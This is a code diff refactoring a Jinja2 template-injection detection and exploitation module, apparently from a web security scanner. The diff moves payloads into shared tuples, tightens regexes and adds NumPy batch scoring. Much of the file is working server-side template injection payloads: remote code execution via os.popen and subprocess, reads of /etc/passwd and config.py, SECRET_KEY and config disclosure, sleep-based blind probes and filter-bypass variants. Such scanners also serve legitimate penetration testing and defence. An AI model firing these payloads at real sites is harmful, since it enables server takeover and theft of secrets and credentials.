@@ -6,10 +6,210 @@ and many other Python web frameworks.
 """
 
 import re
-from typing import List
+import sys
+from typing import List, Optional, Pattern, Sequence, Tuple
 
 from .base import TemplateEngine, VulnerabilityType
 
+try:
+    import numpy as np
+except ImportError:  # numpy is only needed for bulk scoring
+    np = None
+
+
+# Error patterns that indicate Jinja2
+_ERROR_PATTERNS = (
+    re.compile(r'jinja2\.exceptions\.\w+', re.IGNORECASE),
+    re.compile(r'TemplateSyntaxError', re.IGNORECASE),
+    re.compile(r'UndefinedError', re.IGNORECASE),
+    re.compile(r'jinja2\.runtime\.Undefined', re.IGNORECASE),
+    # Bounded gap: '.*' re-scans the rest of the line from every 'Template',
+    # which is quadratic on long single-line pages
+    re.compile(r'Template[^\n]{0,200}line \d+', re.IGNORECASE),
+)
+
+# Every error pattern starts with one of these literals.  A response
+# containing none of them (most responses) skips the regexes entirely;
+# IGNORECASE patterns get no fast literal search from the regex engine.
+_ERROR_PREFIXES = ('jinja2.', 'undefinederror', 'template')
+
+# The only non-ASCII characters a case-insensitive regex matches with ASCII
+# letters (i, i, s, k).  str.lower() does not map them onto those letters,
+# so responses containing one skip the prefilter.
+_ASCII_CASE_VARIANTS = ('\u0130', '\u0131', '\u017f', '\u212a')
+
+# Signature patterns.  The body of each delimiter pair is a bounded run of
+# characters that cannot close it: a greedy or lazy '.*' rescans the rest of
+# the line from every opening delimiter, which turns quadratic on responses
+# full of unclosed '{{'.
+_SIGNATURES = (
+    re.compile(r'\{\{[^}\n]{0,500}\}\}'),  # Jinja2 expressions
+    re.compile(r'\{%[^%\n]{0,500}%\}'),    # Jinja2 statements
+    re.compile(r'\{#[^#\n]{0,500}#\}'),    # Jinja2 comments
+)
+
+# Response indicators for payload success
+_RESPONSE_INDICATORS = {
+    'math_7x7': re.compile(r'\b49\b'),
+    'math_7x7_string': re.compile(r'7777777'),
+    'config_disclosure': re.compile(r'SECRET_KEY|DEBUG|SQLALCHEMY_DATABASE_URI', re.IGNORECASE),
+    'file_access': re.compile(r'root:.*?:/bin/bash|/bin/sh'),
+    'directory_listing': re.compile(r'\[.*?\.py.*?\]'),
+}
+
+
+def _interned(*payloads: str) -> Tuple[str, ...]:
+    """Intern payload strings so every copy shares one object."""
+    return tuple(sys.intern(payload) for payload in payloads)
+
+
+# Payloads by vulnerability type, built once and shared by every instance
+_JINJA2_PAYLOADS = {
+    VulnerabilityType.INFORMATION_DISCLOSURE: _interned(
+        "{{config}}",
+        "{{config.items()}}",
+        "{{request}}",
+        "{{request.environ}}",
+        "{{request.args}}",
+        "{{request.cookies}}",
+        "{{request.headers}}",
+        "{{session}}",
+        "{{g}}",
+        "{{url_for.__globals__}}",
+        "{{get_flashed_messages.__globals__}}",
+        "{{request.application.__self__._get_data_for_json}}",
+    ),
+    
+    VulnerabilityType.CODE_EXECUTION: _interned(
+        "{{7*7}}",
+        "{{7*'7'}}",
+        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
+        "{{url_for.__globals__['__builtins__']['eval']('__import__(\"os\").popen(\"id\").read()')}}",
+        "{{config.__class__.__init__.__globals__['os'].listdir('.')}}",
+        "{{''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read()}}",
+        "{{''.__class__.__mro__[2].__subclasses__()[59].__init__.__globals__['__builtins__']['open']('/etc/passwd').read()}}",
+        "{{request.__class__.__mro__[8].__subclasses__()[14].__init__.__globals__.popen('id').read()}}",
+        "{{lipsum.__globals__['os'].popen('id').read()}}",
+        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
+        "{{joiner.__init__.__globals__.os.popen('id').read()}}",
+    ),
+    
+    VulnerabilityType.FILE_ACCESS: _interned(
+        "{{get_flashed_messages.__globals__['__builtins__'].open('/etc/passwd').read()}}",
+        "{{url_for.__globals__['__builtins__'].open('/etc/passwd').read()}}",
+        "{{config.__class__.__init__.__globals__['os'].listdir('/')}}",
+        "{{''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read()}}",
+        "{{''.__class__.__mro__[2].__subclasses__()[40]('config.py').read()}}",
+    ),
+    
+    VulnerabilityType.BLIND_INJECTION: _interned(
+        "{{''.__class__.__mro__[2].__subclasses__()[59].__init__.__globals__['time'].sleep(5)}}",
+        "{{lipsum.__globals__['time'].sleep(5)}}",
+        "{{url_for.__globals__['time'].sleep(5)}}",
+        "{{config.__class__.__init__.__globals__['time'].sleep(5)}}",
+        "{% set x = lipsum.__globals__.__builtins__.eval('__import__(\"time\").sleep(5)') %}",
+    ),
+}
+
+# Context-independent payloads, also the fallback for unknown contexts
+_BASE_PAYLOADS = _interned(
+    "{{7*7}}",
+    "{{7*'7'}}",
+    "{{config}}",
+    "{{request.args}}",
+)
+
+# Payloads suitable for each injection context
+_CONTEXT_PAYLOADS = {
+    # HTML context - basic payloads work well
+    'html': _BASE_PAYLOADS + _interned(
+        "{{config.__class__}}",
+        "{{request.environ.items()}}",
+    ),
+    
+    # HTML attribute context - need to be careful with quotes
+    'attr': _interned(
+        "{{7*7}}",
+        "{{config.items()}}",
+        "{{request.args.keys()}}",
+    ),
+    
+    # JavaScript context - more complex escaping needed
+    'js': _interned(
+        "{{7*7}}",
+        '{{config.get("SECRET_KEY")}}',
+        "{{request.environ.get('HTTP_HOST')}}",
+    ),
+    
+    # URL parameter context
+    'url': _interned(
+        "{{7*7}}",
+        "{{config}}",
+        "{{request.path}}",
+    ),
+}
+
+# Payloads that attempt to bypass common filters
+_BYPASS_PAYLOADS = _interned(
+    # Attribute access bypasses
+    "{{config['SECRET_KEY']}}",
+    "{{config.get('SECRET_KEY')}}",
+    "{{config|attr('SECRET_KEY')}}",
+    "{{config.__getitem__('SECRET_KEY')}}",
+    
+    # String construction bypasses
+    "{{'se'+'cret'}}",
+    "{{('secret'|upper)[:6]|lower}}",
+    "{{request['__class__']}}",
+    
+    # Filter bypasses
+    "{{config|string}}",
+    "{{config|list}}",
+    "{{config|attr('items')|list}}",
+    
+    # Unicode bypasses
+    "{{\u0063onfig}}",  # config with unicode 'c'
+    "{{re\u0071uest}}",  # request with unicode 'q'
+    
+    # Comment bypasses
+    "{{config/*comment*/}}",
+    "{{config{#comment#}}}",
+    
+    # Concatenation bypasses
+    "{{(config.__class__.__init__.__globals__)['os'].popen('id').read()}}",
+    "{{(lipsum|attr('__globals__'))['os'].popen('id').read()}}",
+)
+
+# Remote code execution payloads
+_RCE_PAYLOADS = _interned(
+    # Classic RCE payloads
+    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
+    "{{url_for.__globals__['__builtins__']['eval']('__import__(\"os\").popen(\"id\").read()')}}",
+    "{{lipsum.__globals__['os'].popen('id').read()}}",
+    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
+    
+    # Alternative RCE methods
+    "{{''.__class__.__mro__[2].__subclasses__()[59].__init__.__globals__['__builtins__']['eval']('__import__(\"os\").system(\"id\")')}}",
+    "{{request.__class__.__mro__[8].__subclasses__()[14].__init__.__globals__.popen('id').read()}}",
+    "{{get_flashed_messages.__globals__['__builtins__']['__import__']('subprocess').check_output('id',shell=True)}}",
+    
+    # Python subprocess module
+    "{{config.__class__.__init__.__globals__['__builtins__']['__import__']('subprocess').check_output('id', shell=True)}}",
+    "{{url_for.__globals__['__builtins__']['__import__']('subprocess').Popen('id', shell=True, stdout=-1).communicate()[0]}}",
+    
+    # Through other globals
+    "{{dict.__new__.__globals__['__builtins__']['__import__']('os').popen('id').read()}}",
+    "{{().__class__.__bases__[0].__subclasses__()[59].__init__.__globals__['__builtins__']['eval']('__import__(\"os\").popen(\"id\").read()')}}",
+)
+
+
+def _syntax_flags(payload: str) -> Tuple[bool, bool, bool, bool]:
+    """The substring tests behind estimate_payload_success's Jinja2 adjustments."""
+    return ('{{' in payload and '}}' in payload, 'config' in payload,
+            'request' in payload, '__globals__' in payload)
+
 
 class Jinja2Engine(TemplateEngine):
     """Jinja2 template engine detection and exploitation."""
@@ -19,179 +219,36 @@ class Jinja2Engine(TemplateEngine):
     
     def _initialize_patterns(self) -> None:
         """Initialize Jinja2-specific detection patterns."""
-        # Error patterns that indicate Jinja2
-        self.error_patterns = [
-            re.compile(r'jinja2\.exceptions\.\w+', re.IGNORECASE),
-            re.compile(r'TemplateSyntaxError', re.IGNORECASE),
-            re.compile(r'UndefinedError', re.IGNORECASE),
-            re.compile(r'jinja2\.runtime\.Undefined', re.IGNORECASE),
-            re.compile(r'Template.*line \d+', re.IGNORECASE),
-        ]
-        
-        # Signature patterns
-        self.signatures = [
-            re.compile(r'\{\{.*\}\}'),  # Jinja2 expressions
-            re.compile(r'\{%.*%\}'),    # Jinja2 statements
-            re.compile(r'\{#.*#\}'),    # Jinja2 comments
-        ]
+        # Compiled once at import and shared by every instance
+        self.error_patterns = _ERROR_PATTERNS
+        self.signatures = _SIGNATURES
+    
+    def _find_error_pattern(self, text: str) -> Optional[Tuple[Pattern, str]]:
+        """Find the first-listed matching error pattern, after a substring prefilter."""
+        if text.isascii() or not any(variant in text for variant in _ASCII_CASE_VARIANTS):
+            text_lower = text.lower()
+            if not any(prefix in text_lower for prefix in _ERROR_PREFIXES):
+                return None
+        return super()._find_error_pattern(text)
     
     def _initialize_payloads(self) -> None:
         """Initialize Jinja2-specific payloads."""
-        self.payloads = {
-            VulnerabilityType.INFORMATION_DISCLOSURE: [
-                "{{config}}",
-                "{{config.items()}}",
-                "{{request}}",
-                "{{request.environ}}",
-                "{{request.args}}",
-                "{{request.cookies}}",
-                "{{request.headers}}",
-                "{{session}}",
-                "{{g}}",
-                "{{url_for.__globals__}}",
-                "{{get_flashed_messages.__globals__}}",
-                "{{request.application.__self__._get_data_for_json}}",
-            ],
-            
-            VulnerabilityType.CODE_EXECUTION: [
-                "{{7*7}}",
-                "{{7*'7'}}",
-                "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
-                "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
-                "{{url_for.__globals__['__builtins__']['eval']('__import__(\"os\").popen(\"id\").read()')}}",
-                "{{config.__class__.__init__.__globals__['os'].listdir('.')}}",
-                "{{''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read()}}",
-                "{{''.__class__.__mro__[2].__subclasses__()[59].__init__.__globals__['__builtins__']['open']('/etc/passwd').read()}}",
-                "{{request.__class__.__mro__[8].__subclasses__()[14].__init__.__globals__.popen('id').read()}}",
-                "{{lipsum.__globals__['os'].popen('id').read()}}",
-                "{{cycler.__init__.__globals__.os.popen('id').read()}}",
-                "{{joiner.__init__.__globals__.os.popen('id').read()}}",
-            ],
-            
-            VulnerabilityType.FILE_ACCESS: [
-                "{{get_flashed_messages.__globals__['__builtins__'].open('/etc/passwd').read()}}",
-                "{{url_for.__globals__['__builtins__'].open('/etc/passwd').read()}}",
-                "{{config.__class__.__init__.__globals__['os'].listdir('/')}}",
-                "{{''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read()}}",
-                "{{''.__class__.__mro__[2].__subclasses__()[40]('config.py').read()}}",
-            ],
-            
-            VulnerabilityType.BLIND_INJECTION: [
-                "{{''.__class__.__mro__[2].__subclasses__()[59].__init__.__globals__['time'].sleep(5)}}",
-                "{{lipsum.__globals__['time'].sleep(5)}}",
-                "{{url_for.__globals__['time'].sleep(5)}}",
-                "{{config.__class__.__init__.__globals__['time'].sleep(5)}}",
-                "{% set x = lipsum.__globals__.__builtins__.eval('__import__(\"time\").sleep(5)') %}",
-            ]
-        }
+        self.payloads = _JINJA2_PAYLOADS
         
         # Response indicators for payload success
-        self.response_indicators = {
-            'math_7x7': re.compile(r'\b49\b'),
-            'math_7x7_string': re.compile(r'7777777'),
-            'config_disclosure': re.compile(r'SECRET_KEY|DEBUG|SQLALCHEMY_DATABASE_URI', re.IGNORECASE),
-            'file_access': re.compile(r'root:.*?:/bin/bash|/bin/sh'),
-            'directory_listing': re.compile(r'\[.*?\.py.*?\]'),
-        }
-    
-    def get_context_payloads(self, context: str) -> List[str]:
-        """Get Jinja2 payloads suitable for specific context."""
-        base_payloads = [
-            "{{7*7}}",
-            "{{7*'7'}}",
-            "{{config}}",
-            "{{request.args}}",
-        ]
-        
-        if context == 'html':
-            # HTML context - basic payloads work well
-            return base_payloads + [
-                "{{config.__class__}}",
-                "{{request.environ.items()}}",
-            ]
-        
-        elif context == 'attr':
-            # HTML attribute context - need to be careful with quotes
-            return [
-                "{{7*7}}",
-                "{{config.items()}}",
-                "{{request.args.keys()}}",
-            ]
-        
-        elif context == 'js':
-            # JavaScript context - more complex escaping needed
-            return [
-                "{{7*7}}",
-                '{{config.get("SECRET_KEY")}}',
-                "{{request.environ.get('HTTP_HOST')}}",
-            ]
-        
-        elif context == 'url':
-            # URL parameter context
-            return [
-                "{{7*7}}",
-                "{{config}}",
-                "{{request.path}}",
-            ]
-        
-        else:
-            return base_payloads
-    
-    def get_bypass_payloads(self) -> List[str]:
-        """Get payloads that attempt to bypass common filters."""
-        return [
-            # Attribute access bypasses
-            "{{config['SECRET_KEY']}}",
-            "{{config.get('SECRET_KEY')}}",
-            "{{config|attr('SECRET_KEY')}}",
-            "{{config.__getitem__('SECRET_KEY')}}",
-            
-            # String construction bypasses
-            "{{'se'+'cret'}}",
-            "{{('secret'|upper)[:6]|lower}}",
-            "{{request['__class__']}}",
-            
-            # Filter bypasses
-            "{{config|string}}",
-            "{{config|list}}",
-            "{{config|attr('items')|list}}",
-            
-            # Unicode bypasses
-            "{{\u0063onfig}}",  # config with unicode 'c'
-            "{{re\u0071uest}}",  # request with unicode 'q'
-            
-            # Comment bypasses
-            "{{config/*comment*/}}",
-            "{{config{#comment#}}}",
-            
-            # Concatenation bypasses
-            "{{(config.__class__.__init__.__globals__)['os'].popen('id').read()}}",
-            "{{(lipsum|attr('__globals__'))['os'].popen('id').read()}}",
-        ]
-    
-    def get_rce_payloads(self) -> List[str]:
-        """Get remote code execution payloads for Jinja2."""
-        return [
-            # Classic RCE payloads
-            "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
-            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
-            "{{url_for.__globals__['__builtins__']['eval']('__import__(\"os\").popen(\"id\").read()')}}",
-            "{{lipsum.__globals__['os'].popen('id').read()}}",
-            "{{cycler.__init__.__globals__.os.popen('id').read()}}",
-            
-            # Alternative RCE methods
-            "{{''.__class__.__mro__[2].__subclasses__()[59].__init__.__globals__['__builtins__']['eval']('__import__(\"os\").system(\"id\")')}}",
-            "{{request.__class__.__mro__[8].__subclasses__()[14].__init__.__globals__.popen('id').read()}}",
-            "{{get_flashed_messages.__globals__['__builtins__']['__import__']('subprocess').check_output('id',shell=True)}}",
-            
-            # Python subprocess module
-            "{{config.__class__.__init__.__globals__['__builtins__']['__import__']('subprocess').check_output('id', shell=True)}}",
-            "{{url_for.__globals__['__builtins__']['__import__']('subprocess').Popen('id', shell=True, stdout=-1).communicate()[0]}}",
-            
-            # Through other globals
-            "{{dict.__new__.__globals__['__builtins__']['__import__']('os').popen('id').read()}}",
-            "{{().__class__.__bases__[0].__subclasses__()[59].__init__.__globals__['__builtins__']['eval']('__import__(\"os\").popen(\"id\").read()')}}",
-        ]
+        self.response_indicators = _RESPONSE_INDICATORS
+    
+    def get_context_payloads(self, context: str) -> Tuple[str, ...]:
+        """Get Jinja2 payloads suitable for specific context (read-only tuple)."""
+        return _CONTEXT_PAYLOADS.get(context, _BASE_PAYLOADS)
+    
+    def get_bypass_payloads(self) -> Tuple[str, ...]:
+        """Get payloads that attempt to bypass common filters (read-only tuple)."""
+        return _BYPASS_PAYLOADS
+    
+    def get_rce_payloads(self) -> Tuple[str, ...]:
+        """Get remote code execution payloads for Jinja2 (read-only tuple)."""
+        return _RCE_PAYLOADS
     
     def estimate_payload_success(self, payload: str, context: str) -> float:
         """Estimate Jinja2 payload success probability."""
@@ -223,3 +280,51 @@ class Jinja2Engine(TemplateEngine):
             probability -= 0.2  # JavaScript context more challenging
         
         return max(0.0, min(1.0, probability))
+    
+    def score_all(self, payloads: Sequence[str], context: str) -> List[float]:
+        """
+        Estimate success probabilities for many payloads at once.
+        
+        Gives the same result as estimate_payload_success for every payload:
+        the adjustments are applied in the same order, as NumPy array
+        operations, after one Python-level pass over the payloads.
+        
+        Args:
+            payloads: Payloads to evaluate
+            context: The injection context (html, attr, js, etc.)
+            
+        Returns:
+            List of probabilities between 0.0 and 1.0, in payload order
+        """
+        if np is None:
+            return [self.estimate_payload_success(payload, context) for payload in payloads]
+        
+        count = len(payloads)
+        lengths = np.fromiter(map(len, payloads), dtype=np.int64, count=count)
+        # One pass over the payloads gives every flag, one column per test
+        flags = np.fromiter(map(_syntax_flags, payloads), dtype=np.dtype((np.bool_, 4)), count=count)
+        syntax, config, request, globals_ = flags.reshape(count, 4).T
+        
+        # Base estimation
+        probability = np.full(count, 0.5)
+        probability += np.where(lengths < 20, 0.2, 0.0)
+        probability -= np.where(lengths > 100, 0.3, 0.0)
+        probability += self._context_adjustments.get(context, 0.0)
+        np.clip(probability, 0.0, 1.0, out=probability)
+        
+        # Jinja2-specific adjustments, in estimate_payload_success's order
+        probability += np.where(syntax, 0.2, 0.0)
+        probability += np.where(config, 0.1, 0.0)
+        probability += np.where(request, 0.1, 0.0)
+        probability -= np.where(globals_, 0.1, 0.0)
+        probability -= np.where(lengths > 200, 0.2, 0.0)
+        
+        # Context-specific adjustments
+        if context == 'html':
+            probability += 0.1
+        elif context == 'attr':
+            probability -= 0.1
+        elif context == 'js':
+            probability -= 0.2
+        
+        return np.clip(probability, 0.0, 1.0, out=probability).tolist()